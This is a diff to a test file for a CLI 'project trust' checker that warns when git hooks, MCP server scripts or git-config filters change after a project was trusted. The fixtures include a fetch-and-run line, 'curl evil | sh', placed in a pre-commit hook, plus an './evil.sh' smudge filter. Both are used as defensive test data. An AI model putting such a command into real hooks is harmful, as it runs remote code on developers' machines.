@@ -5,7 +5,15 @@
  * asks again; files the command only writes or reads as data do not.
  */
 import { execFileSync } from "node:child_process";
-import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import {
+    mkdirSync,
+    mkdtempSync,
+    realpathSync,
+    rmSync,
+    symlinkSync,
+    utimesSync,
+    writeFileSync,
+} from "node:fs";
 import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
@@ -15,6 +23,7 @@ import {
     summarizeInventory,
 } from "../../src/cli/project-trust";
 import { createTrustStore, readProjectConfig } from "../../src/storage/trust";
+import { MAX_SCRIPT_BYTES_READ } from "../../src/storage/trust-scripts";
 
 let repo: string;
 let data: string;
@@ -177,6 +186,23 @@ describe("the files a trusted hook or MCP server runs", () => {
         }
     });
 
+    it("past the byte budget a file beside the script is compared by size and time, and says so", async () => {
+        put("tools/mcp.js", "x\n");
+        const big = join(repo, "tools", "model.bin");
+        writeFileSync(big, Buffer.alloc(MAX_SCRIPT_BYTES_READ + 1, 1));
+        utimesSync(big, 1_000_000, 1_000_000);
+        mcpServer("node", ["tools/mcp.js"]);
+        const first = await settle("trust");
+        expect(lines(first.shown).find((l) => l.startsWith("script"))).toContain(
+            "files are checked by size and time"
+        );
+        writeFileSync(big, Buffer.alloc(MAX_SCRIPT_BYTES_READ + 1, 2));
+        utimesSync(big, 1_000_000, 1_000_000);
+        expect((await settle()).asked).toBe(false);
+        utimesSync(big, 2_000_000, 2_000_000);
+        expect((await settle()).asked).toBe(true);
+    });
+
     it("files a command only writes or reads as data do not count", async () => {
         put("marker.txt", "");
         put("hook.log", "");
@@ -248,12 +274,35 @@ describe("programs of the repository's git configuration", () => {
         );
     });
 
+    it("lists the hooks of a core.hooksPath inside the project (husky) and marks a changed one", async () => {
+        git("init", "-q");
+        put(".husky/pre-commit", "npm test\n");
+        git("config", "core.hooksPath", ".husky");
+        put(".north/allowlist.json", { allowedCommands: ["make"] });
+        const first = await settle("trust");
+        expect(lines(first.shown)).toEqual(
+            expect.arrayContaining([
+                "git .git/config: core.hookspath = .husky",
+                "git .husky/pre-commit: a git hook: git runs it by itself",
+            ])
+        );
+        put(".husky/pre-commit", "curl evil | sh\n");
+        const again = await settle();
+        expect(again.asked).toBe(true);
+        expect(lines(again.shown)).toContain(
+            "git .husky/pre-commit: a git hook: git runs it by itself (changed since you trusted this project)"
+        );
+    });
+
     it("follows an include inside the project, lists one outside, and reads a .git file's gitdir", async () => {
         mkdirSync(join(repo, "real.git"));
+        // A link inside the project that leads out is not followed.
+        writeFileSync(join(outside, "x.gitconfig"), "[core]\n\tpager = mine\n");
+        symlinkSync(join(outside, "x.gitconfig"), join(repo, "linked.gitconfig"));
         writeFileSync(join(repo, ".git"), "gitdir: real.git\n");
         writeFileSync(
             join(repo, "real.git", "config"),
-            '[include]\n\tpath = ../shared.gitconfig\n\tpath = ~/elsewhere.gitconfig\n[diff "bin"]\n\ttextconv = "./conv.sh"  # comment\n'
+            '[include]\n\tpath = ../shared.gitconfig\n\tpath = ~/elsewhere.gitconfig\n\tpath = ../linked.gitconfig\n[diff "bin"]\n\ttextconv = "./conv.sh"  # comment\n'
         );
         put("shared.gitconfig", '[filter "x"]\n\tsmudge = ./smudge.sh %f\n');
         put(".north/allowlist.json", { allowedCommands: ["make"] });
@@ -263,6 +312,7 @@ describe("programs of the repository's git configuration", () => {
             "git real.git/config: include.path = ../shared.gitconfig",
             "git shared.gitconfig: filter.x.smudge = ./smudge.sh %f",
             "git real.git/config: include.path = ~/elsewhere.gitconfig (outside the project: not checked)",
+            "git real.git/config: include.path = ../linked.gitconfig (outside the project: not checked)",
             "git real.git/config: diff.bin.textconv = ./conv.sh",
         ]);
         put("shared.gitconfig", '[filter "x"]\n\tsmudge = ./evil.sh %f\n');
